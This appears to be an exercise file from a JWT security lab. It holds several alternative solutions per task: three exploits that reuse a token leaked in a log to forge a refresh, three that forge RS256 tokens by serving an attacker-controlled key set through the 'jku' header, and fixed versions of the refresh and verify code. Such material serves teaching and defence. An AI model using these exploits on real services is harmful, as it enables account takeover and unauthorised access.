# %% attack_second_token -> a session, and a regular expression
def attack_second_token(url):
    with requests.Session() as session:
        [lost] = re.findall(r"\S+\.\S+\.[\w-]+", session.get(url + "/log").json()["lines"][0])
        body = session.get(url + "/refresh_token").json() | {"token": lost}
        session.headers.update(
            bearer(session.post(url + "/token/refresh", json=body).json()["token"])
        )
        return session.get(url + "/flag").json()["flag"]


# %% attack_second_token -> the longest word of the log
def attack_second_token(url):
    lost = max(requests.get(f"{url}/log").text.replace('"', " ").split(), key=len)
    own = requests.get(f"{url}/refresh_token").json()["refresh_token"]
    answer = requests.post(f"{url}/token/refresh", json={"refresh_token": own, "token": lost})
    headers = {"Authorization": "Bearer " + answer.json()["token"]}
    return requests.get(f"{url}/flag", headers=headers).json().get("flag")


# %% attack_second_token -> in small steps
def attack_second_token(url: str) -> str:
    lines = requests.get(url + "/log").json()["lines"]
    words = lines[0].split(" ")
    refresh_token = requests.get(url + "/refresh_token").json()["refresh_token"]
    body = {"token": words[3], "refresh_token": refresh_token}
    response = requests.post(url + "/token/refresh", json=body)
    response.raise_for_status()
    response = requests.get(url + "/flag", headers=bearer(response.json()["token"]))
    return response.json()["flag"] + "\n"


# %% refresh -> both must name the same user
def refresh(owner_of, key):
    claims = jwt.decode(request.json["token"], key, ["HS256"], options={"verify_exp": False})
    if owner_of.get(request.json.get("refresh_token", "")) != claims["sub"]:
        return {"msg": "The two tokens are not of one user."}, 401
    return {"token": jwt.encode({"sub": claims["sub"], "exp": int(time.time()) + 3600}, key)}


# %% refresh -> the library of dates, and KeyError
def refresh(owner_of, key):
    from datetime import UTC, datetime, timedelta

    try:
        owner = owner_of[request.get_json()["refresh_token"]]
    except KeyError:
        return {"msg": "Log in again."}, 401
    end = datetime.now(UTC) + timedelta(hours=1)
    return {"token": jwt.encode({"sub": owner, "exp": end, "iat": datetime.now(UTC)}, key)}


# %% refresh -> each refresh token is for one refresh
def refresh(owner_of, key):
    refresh_token = request.json.get("refresh_token")
    if refresh_token not in owner_of:
        abort(401)
    owner = owner_of.pop(refresh_token)
    new = secrets.token_hex(16)
    owner_of[new] = owner
    claims = {"sub": owner, "exp": round(time.time()) + 60 * 60}
    return {"token": jwt.encode(claims, key), "refresh_token": new}


# %% attack_key_set -> a route with a decorator, and a name of its own
def attack_key_set(url):
    key = rsa.generate_private_key(65537, 2048)
    app = Flask("mine")

    @app.route("/my-keys")
    def my_keys():
        jwk = RSAAlgorithm.to_jwk(key.public_key(), as_dict=True)
        return {"keys": [{**jwk, "kid": "mine", "use": "sig"}]}

    own = serve(app)
    try:
        headers = {"kid": "mine", "jku": own.url + "/my-keys"}
        claims = {"sub": "1", "exp": time.time() + 60}
        token = jwt.encode(claims, key, algorithm="RS256", headers=headers)
        return requests.get(url + "/flag", headers=bearer(token)).json()["flag"]
    finally:
        own.stop()


# %% attack_key_set -> the pair of the cell above
def attack_key_set(url):
    thief = Flask("thief", static_folder=None)
    thief.add_url_rule("/", "keys", lambda: {"keys": [public | {"kid": "x"}]})
    with serve(thief) as own:
        token = jwt.encode({"sub": "1"}, pair, "RS256", headers={"kid": "x", "jku": own.url})
        return requests.get(f"{url}/flag", headers=bearer(token)).json()["flag"]


# %% attack_key_set -> the header of a real token, changed, and an app without Flask
def attack_key_set(url):
    import json

    key = rsa.generate_private_key(public_exponent=65537, key_size=3072)
    names = jwt.get_unverified_header(requests.post(f"{url}/token").json()["token"])
    jwk = json.loads(RSAAlgorithm.to_jwk(key.public_key())) | {"kid": names["kid"]}

    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", "application/json")])
        return [json.dumps({"keys": [jwk]}).encode()]

    with serve(app) as own:
        names["jku"] = own.url
        token = jwt.encode({"sub": "1"}, key, "RS256", headers=names)
        answer = requests.get(f"{url}/flag", headers=bearer(token))
    return answer.json()["flag"]


# %% verify -> a table of its own keys
def verify(token, key):
    keys = {"1": key.public_key()}
    name = jwt.get_unverified_header(token).get("kid")
    if name not in keys:
        raise jwt.InvalidTokenError("unknown key")
    return jwt.decode(token, keys[name], algorithms=["RS256"])


# %% verify -> PyJWK of the own set
def verify(token, key):
    public = RSAAlgorithm.to_jwk(key.public_key(), as_dict=True)
    own = jwt.PyJWKSet([public | {"kid": "1"}])
    return jwt.decode(token, own["1"], algorithms=["RS256"])


# %% verify -> an error of its own
def verify(token, key):
    try:
        return jwt.decode(token, key.public_key(), ["RS256"], options={"require": ["exp", "sub"]})
    except jwt.ExpiredSignatureError:
        raise ValueError("Log in again.") from None
